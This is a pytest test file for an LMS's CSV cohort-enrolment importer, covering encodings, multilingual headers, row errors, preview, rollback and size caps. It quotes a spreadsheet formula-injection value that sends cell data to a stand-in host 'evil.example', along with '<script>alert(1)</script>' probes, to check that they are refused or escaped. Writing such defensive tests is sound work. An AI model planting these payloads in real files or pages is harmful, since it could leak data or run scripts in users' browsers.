"""CSV enrolment: messy files, clear row messages, the preview, all or nothing, caps."""
from __future__ import annotations

import io
import unicodedata
from pathlib import Path

import pytest
import sqlalchemy as sa

from lms.accounts.models import User
from lms.core.audit import AuditEvent
from lms.core.db import db as _db
from lms.core.jobs import Job
from lms.learning import import_services
from lms.learning.cohort_import import MAX_BYTES, MAX_ROWS, read_people
from lms.learning.cohorts import CohortMember
from lms.learning.import_models import CohortImport
from lms.learning.models import Enrolment
from tests.fixtures.app import post_form
from tests.fixtures.csv.make_fixtures import EVERY_SCRIPT, HEADER, big_file, csv_text, people_csv
from tests.fixtures.mail import links_in
from tests.test_cohorts import make_cohort

FILES = Path(__file__).parent / "fixtures" / "csv"


def read(name: str, **kwargs):
    return read_people((FILES / name).read_bytes(), **kwargs)


def problems_by_line(reading) -> dict[int, str]:
    return {row.line: " ".join(row.problems) for row in reading.rows if row.problems}


# --- reading messy files (no database) ---------------------------------------------------

@pytest.mark.parametrize("name, encoding, delimiter", [
    ("every_script_utf8_bom.csv", "utf-8", ","),
    ("every_script_utf8.csv", "utf-8", ","),
    ("excel_unicode_text_utf16.csv", "utf-16", "\t"),
    ("semicolons.csv", "utf-8", ";"),
    ("mac_cr_line_endings.csv", "utf-8", ","),
])
def test_every_script_reads_the_same_whatever_the_encoding(name, encoding, delimiter):
    reading = read(name)
    assert (reading.encoding, reading.delimiter) == (encoding, delimiter)
    assert reading.ok, (reading.problems, problems_by_line(reading))
    names = [row.person.name for row in reading.rows]
    expected = [unicodedata.normalize("NFC", person[1]) for person in EVERY_SCRIPT]
    assert names[:4] == expected[:len(names[:4])]
    if name.startswith("e"):
        assert names == expected  # Vietnamese typed with combining marks is stored NFC
        assert names[4] == "Nguyễn Thị Hoa" and len(names[4]) == 14


def test_semicolon_file_keeps_commas_and_quoted_semicolons_inside_cells():
    [*_, last] = read("semicolons.csv").rows
    assert last.person.name == "Trần Văn Hà, Jr"
    assert last.person.organisation == "Bộ Công an; Hà Nội"


def test_legacy_thai_code_page_with_a_thai_header():
    reading = read("thai_windows_874.csv")
    assert reading.encoding == "cp874" and reading.ok
    assert [row.person.name for row in reading.rows] == ["สมชาย ใจดี", "มาลี รักไทย",
                                                          "สุดา ทองดี"]
    second = reading.rows[1].person
    # Values in Thai too: ไทย is TH, ศาล (court) the judiciary, หญิง female.
    assert (second.country, second.sector, second.sex) == ("TH", "judiciary", "female")
    # Read as UTF-8 on purpose, the same bytes give a clear problem, not mojibake.
    wrong = read("thai_windows_874.csv", encoding="utf-8")
    assert not wrong.rows and "cannot be read as UTF-8" in wrong.problems[0]


@pytest.mark.parametrize("language", ["th", "km", "lo", "my", "vi", "id", "ms", "fil"])
def test_a_header_in_any_language_of_the_programme(language):
    reading = read(f"header_{language}.csv")
    assert reading.ok, reading.problems
    assert set(reading.columns) == set(HEADER)
    assert reading.rows[0].person.email == "somchai@example.org"


def test_quoted_newlines_stay_inside_their_cell_and_rows_keep_spreadsheet_numbers():
    reading = read("quoted_newlines.csv")
    assert reading.ok
    first, second = reading.rows
    assert first.person.name == "สมชาย ใจดี"  # the newline in a name becomes a space
    assert first.person.organisation == "Line one Line two"
    assert (first.line, second.line) == (2, 3)


def test_duplicate_emails_differing_in_case():
    reading = read("duplicate_emails_in_case.csv")
    assert reading.rows[0].person.email == "somchai@example.org"
    assert problems_by_line(reading) == {4: "The email somchai@example.org is on row 2 already "
                                            "(an email in other capitals is the same email)."}


def test_formula_looking_cells_are_refused_with_the_column_and_sign():
    found = problems_by_line(read("formulas.csv"))
    assert set(found) == {2, 3, 4, 5}  # row 6 holds a lone "-": nothing, not a formula
    assert 'Column “name”: “=HYPERLINK("http://evil.example/?x="&A1…” starts with “=”' \
        in found[2]
    assert "“+66 2 123 4567” starts with “+”" in found[3]
    assert "“-2+3” starts with “-”" in found[4]
    assert "“@SUM(A1:A9)” starts with “@”" in found[5]


def test_bad_rows_get_one_clear_message_each():
    reading = read("bad_rows.csv")
    assert problems_by_line(reading) == {
        2: "“not-an-email” is not an email address.",
        3: "Unknown country “Thailandd”: use a two-letter code such as TH, KH, LA, MM or VN.",
        4: "Unknown sector “cops”: use one of judiciary, prosecution, police, immigration, "
           "labour, social_work, ngo, other, undisclosed.",
        5: "The name has 151 characters; at most 150 fit on a certificate.",
        7: "No email.",
    }
    html = reading.rows[4].person  # HTML is text like any other: kept, and escaped on pages
    assert html.name == "<b>Bold</b> <script>alert(1)</script>"


def test_title_row_above_the_header_is_skipped():
    reading = read("title_row_above_header.csv")
    assert reading.ok and reading.header_line == 2
    assert [row.line for row in reading.rows] == [3, 4]


def test_unclosed_quote_and_missing_header_are_explained():
    found = problems_by_line(read("unclosed_quote.csv"))
    assert "is a quote (\") left open on this row?" in found[3]
    reading = read("no_header.csv")
    assert not reading.rows
    assert reading.problems == ["The first row does not name the columns. It must name at "
                                "least the email and the name, for example: "
                                "email,name,country,sector,sex,organisation"]
    missing = read_people(b"email,organisation\na@example.org,x\n")
    assert "No “name” column" in missing.problems[0] and "email, organisation" in \
        missing.problems[0]


@pytest.mark.parametrize("data, message", [
    (b"", "The file is empty."),
    (b"email,name\r\n", "The file has a header row but no people."),
    (b"\xff\xfe\x00\xd8", "The file starts like UTF-16"),  # a lone surrogate: damaged
    (b"email,name,email\na@example.org,A,b@example.org\n", "Two columns mean the same"),
])
def test_files_that_cannot_be_read_say_why(data, message):
    assert message in " ".join(read_people(data).problems)


def test_caps_on_size_and_rows():
    assert "larger than 20 MB" in read_people(b"x" * (MAX_BYTES + 1)).problems[0]
    reading = read_people(people_csv(MAX_ROWS + 1))
    assert len(reading.rows) == MAX_ROWS
    assert reading.problems == ["The file has more than 50,000 rows. Split it into smaller "
                                "files."]


# --- the preview, and confirming it -------------------------------------------------------

def _count(model) -> int:
    return _db.session.scalar(sa.select(sa.func.count()).select_from(model))


def upload(client, cohort, data: bytes, name: str = "people.csv", **fields):
    return post_form(client, f"/cohorts/{cohort.id}/import", {
        "file": (io.BytesIO(data), name), **fields}, content_type="multipart/form-data")


def test_the_page_states_the_caps(admin_client, db):
    cohort = make_cohort()
    page = admin_client.get(f"/cohorts/{cohort.id}/import").get_data(as_text=True)
    assert "At most 20 MB and 50,000 rows a file." in page
    assert "อีเมล" in page  # the header names accepted


def test_preview_matches_people_and_writes_nothing(admin_client, db, make_user, tiny_course):
    existing = make_user(email="somchai@example.org", name="Somchai J.")
    member = make_user(email="sokha@example.org")
    cohort = make_cohort(courses=[tiny_course], members=[member])
    users, events = _count(User), _count(AuditEvent)
    data = csv_text([HEADER, ["SOMCHAI@Example.org", "สมชาย ใจดี", "TH", "police", "male", ""],
                     ["sokha@example.org", "Sokha", "KH", "judiciary", "female", ""],
                     ["new.person@example.org", "<i>New</i> Person", "TH", "police", "male",
                      "<script>alert(1)</script>"],
                     ["bad", "Bad Email", "TH", "police", "male", ""]]).encode()
    response = upload(admin_client, cohort, data)
    assert response.status_code == 302
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "4 rows:" in page and "1 new person" in page and "1 with an account" in page
    assert "1 in the cohort already" in page and "1 with an error." in page
    assert "Has an account" in page and "The account's name is “Somchai J.”" in page
    assert "“bad” is not an email address." in page
    assert "<script>alert(1)" not in page
    assert "<i>New</i>" not in page and "&lt;i&gt;New&lt;/i&gt; Person" in page
    assert "Import all" not in page  # an error row: no confirm button
    assert (_count(User), _count(CohortMember), _count(AuditEvent)) == (users, 1, events)
    assert existing.accepted_at is None  # untouched

    confirm = post_form(admin_client, response.headers["Location"] + "/confirm")
    assert confirm.status_code == 302 and _count(User) == users  # refused: errors


def test_pasted_rows_and_confirming_imports_everyone_with_emails(
        admin_client, admin, db, make_user, tiny_course, smtp_server):
    existing = make_user(email="malee@example.org", name="Malee", locale="th")
    cohort = make_cohort(courses=[tiny_course])
    text = csv_text([["อีเมล", "ชื่อ", "ประเทศ", "ภาคส่วน", "เพศ", "หน่วยงาน", "ภาษา"],
                     ["somchai@example.org", "สมชาย ใจดี", "TH", "police", "male", "ตำรวจ",
                      "th"],
                     ["Malee@Example.org", "มาลี", "TH", "judiciary", "female", "", ""],
                     ["hoa@example.org", "Nguyễn Thị Hoa", "VN", "labour", "female", "", ""]])
    response = post_form(admin_client, f"/cohorts/{cohort.id}/import", {"text": text})
    preview = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Import all 3 rows" in preview and "pasted text" in preview
    done = post_form(admin_client, response.headers["Location"] + "/confirm")
    job = db.session.scalar(sa.select(Job))
    assert done.headers["Location"] == f"/jobs/{job.id}"
    assert job.status == "done" and (job.done, job.total) == (6, 6)  # 3 rows, 3 emails
    assert "Importing people into" in admin_client.get(f"/jobs/{job.id}").get_data(
        as_text=True)

    somchai = db.session.scalar(sa.select(User).where(User.email == "somchai@example.org"))
    assert (somchai.name, somchai.organisation, somchai.locale) == ("สมชาย ใจดี", "ตำรวจ",
                                                                     "th")
    assert somchai.invited_at is not None and somchai.accepted_at is None
    members = set(db.session.scalars(sa.select(CohortMember.user_id)))
    assert existing.id in members and somchai.id in members and len(members) == 3
    assert _count(Enrolment) == 3
    pending = db.session.scalar(sa.select(CohortImport))
    assert pending.applied_at is not None and pending.content == b""  # no second copy

    smtp_server.wait_for(3)
    [invite] = smtp_server.messages_to("somchai@example.org")
    assert "/invitation/" in invite.text and cohort.name in invite.subject
    [notice] = smtp_server.messages_to(existing.email)
    assert "/invitation/" not in notice.text and cohort.name in notice.subject
    [vietnamese] = smtp_server.messages_to("hoa@example.org")
    assert any("/invitation/" in link for link in links_in(vietnamese.message))
    imported = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "cohort.imported")).one()
    assert imported.actor_id == admin.id and imported.data["new"] == 2
    assert imported.data["existing"] == 1

    again = post_form(admin_client, response.headers["Location"] + "/confirm",
                      follow_redirects=True)
    assert "imported already" in again.get_data(as_text=True) and _count(User) == 4


def test_an_open_invitation_is_sent_again_and_deactivated_people_get_no_email(
        admin_client, db, make_user, outbox):
    cohort = make_cohort()
    waiting = make_user(email="waiting@example.org")
    waiting.invited_at = waiting.created_at
    gone = make_user(email="gone@example.org", active=False)
    db.session.commit()
    data = csv_text([HEADER, [waiting.email, "W", "", "", "", ""],
                     [gone.email, "G", "", "", "", ""]]).encode()
    preview = upload(admin_client, cohort, data).headers["Location"]
    page = admin_client.get(preview).get_data(as_text=True)
    assert "a new invitation is sent" in page and "no email is sent" in page
    post_form(admin_client, preview + "/confirm")
    assert len(outbox.to(waiting.email)) == 1 and "/invitation/" in outbox.last_link(
        waiting.email)
    assert outbox.to(gone.email) == []
    assert _count(CohortMember) == 2


def test_the_preview_is_the_uploaders_and_is_paged(app, admin_client, db, make_user):
    cohort = make_cohort()
    data = people_csv(450, ["x", "Bad", "", "", "", ""])
    preview = upload(admin_client, cohort, data).headers["Location"]
    first = admin_client.get(preview).get_data(as_text=True)
    assert "Rows 1 to 200 of 451." in first and "Next page" in first
    assert "learner0@example.org" in first and "learner250@example.org" not in first
    third = admin_client.get(preview + "?page=3").get_data(as_text=True)
    assert "Rows 401 to 451 of 451." in third and "Next page" not in third
    errors = admin_client.get(preview + "?show=error").get_data(as_text=True)
    assert "Rows 1 to 1 of 1." in errors and "“x” is not an email address." in errors
    assert admin_client.get(preview + "?page=x&show=<b>").status_code == 200

    from tests.fixtures.users import login
    other = app.test_client()
    login(other, make_user("admin"))
    assert other.get(preview).status_code == 404
    assert post_form(other, preview + "/confirm").status_code == 404


def test_encoding_chosen_by_the_admin(admin_client, db):
    cohort = make_cohort()
    data = (FILES / "thai_windows_874.csv").read_bytes()
    preview = upload(admin_client, cohort, data, encoding="cp874").headers["Location"]
    page = admin_client.get(preview).get_data(as_text=True)
    assert "Thai (Windows-874, TIS-620)" in page and "สมชาย ใจดี" in page
    wrong = upload(admin_client, cohort, data, encoding="utf-16").headers["Location"]
    assert "The file cannot be imported" in admin_client.get(wrong).get_data(as_text=True)


@pytest.mark.parametrize("name", sorted(p.name for p in FILES.glob("*.csv")))
def test_every_fixture_previews_without_a_500(admin_client, db, name):
    cohort = make_cohort()
    response = upload(admin_client, cohort, (FILES / name).read_bytes(), name)
    assert response.status_code == 302
    assert admin_client.get(response.headers["Location"]).status_code == 200


def test_nothing_to_import_and_a_body_over_the_cap(admin_client, db):
    cohort = make_cohort()
    empty = post_form(admin_client, f"/cohorts/{cohort.id}/import", {"text": "  "})
    assert empty.status_code == 400
    assert "Choose a CSV file, or paste the rows." in empty.get_data(as_text=True)
    huge = upload(admin_client, cohort, b"x" * (MAX_BYTES + 2 * 1024 * 1024))
    assert huge.status_code == 413
    assert _count(CohortImport) == 0


# --- all or nothing ------------------------------------------------------------------------


@pytest.mark.slow
def test_a_failure_on_row_9999_of_10000_leaves_the_database_unchanged(
        admin_client, db, make_user, tiny_course, monkeypatch, outbox):
    existing = make_user(email="learner5@example.org")
    cohort = make_cohort(courses=[tiny_course])
    before = {model: _count(model) for model in (User, CohortMember, Enrolment, AuditEvent)}
    data = people_csv(10_000)
    preview = upload(admin_client, cohort, data).headers["Location"]
    assert "Import all 10,000 rows" in admin_client.get(preview).get_data(as_text=True)

    real = import_services.new_user_values
    seen = {}

    def fail_on_row_9999(person, now):
        if person.email == "learner9998@example.org":  # data row 9,999 of 10,000
            # What the import's own transaction holds at that moment: 9,000 people.
            seen["written"] = _db.session.scalar(sa.select(sa.func.count(User.id)))
            raise RuntimeError("disk full at row 9,999")
        return real(person, now)

    monkeypatch.setattr(import_services, "new_user_values", fail_on_row_9999)
    post_form(admin_client, preview + "/confirm")
    job = db.session.scalar(sa.select(Job))
    assert job.status == "failed" and seen["written"] >= before[User] + 8_000
    assert {model: _count(model) for model in before} == before
    pending = db.session.scalar(sa.select(CohortImport))
    assert pending.applied_at is None and len(pending.content) == len(data)
    assert outbox.messages() == [] and existing.invited_at is None



def test_a_failed_import_can_be_confirmed_again(admin_client, db, monkeypatch, outbox):
    cohort = make_cohort()
    preview = upload(admin_client, cohort, people_csv(30)).headers["Location"]
    real = import_services.add_members
    monkeypatch.setattr(import_services, "add_members", lambda *a, **k: 1 / 0)
    post_form(admin_client, preview + "/confirm")
    assert _count(User) == 1 and outbox.messages() == []  # the admin only
    monkeypatch.setattr(import_services, "add_members", real)
    post_form(admin_client, preview + "/confirm")
    assert _count(User) == 31 and _count(CohortMember) == 30 and len(outbox.messages()) == 30
    assert [job.status for job in db.session.scalars(sa.select(Job).order_by(Job.id))] == [
        "failed", "done"]


def test_apply_rolls_back_whole_when_a_statement_fails_mid_way(db, monkeypatch):
    """The service itself: flushed batches of people are undone with the rest."""
    cohort = make_cohort()
    data = people_csv(2_500)
    pending = import_services.stage_import(cohort, data, source="x.csv", encoding=None,
                                           rows=2_500, actor_id=None)
    db.session.commit()

    def fail_after_people(*args, **kwargs):
        assert _count(User) == 2_500  # the people were written (flushed) already
        raise RuntimeError("connection lost")

    monkeypatch.setattr(import_services, "add_members", fail_after_people)
    with pytest.raises(RuntimeError):
        import_services.apply_import(pending, actor_id=None)
    db.session.rollback()
    assert _count(User) == 0 and _count(AuditEvent) == 1  # cohort.created only


# --- size -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_20_mb_file_of_50000_rows_previews(admin_client, db):
    cohort = make_cohort()
    data = big_file(MAX_ROWS, MAX_BYTES - 64 * 1024)
    assert MAX_BYTES - 1024 * 1024 < len(data) <= MAX_BYTES
    response = upload(admin_client, cohort, data, "big.csv")
    assert response.status_code == 302
    page = admin_client.get(response.headers["Location"])
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "Import all 50,000 rows" in text and "Rows 1 to 200 of 50,000." in text
